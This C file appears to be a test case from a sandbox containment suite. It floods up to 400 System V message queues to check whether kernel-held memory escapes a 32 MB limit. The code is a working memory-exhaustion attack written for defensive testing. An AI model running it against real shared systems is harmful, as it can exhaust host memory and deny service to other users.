// tries: "to fill the message queues"
// side: both
// limits: {memory_mb: 32}
// intact: [host, next_run]
#include "attack.h"
#include <sys/msg.h>
int main(void) {
    struct { long kind; char text[8000]; } message = {1};
    long total = 0;
    for (int queue = 0; queue < 400; queue++) {
        int id = msgget(IPC_PRIVATE, 0600 | IPC_CREAT);
        if (id < 0) break;
        while (msgsnd(id, &message, sizeof message.text, IPC_NOWAIT) == 0) total += sizeof message.text;
    }
    if (total > 40 << 20) escaped("filled the queues beyond its memory");
    tried();
}
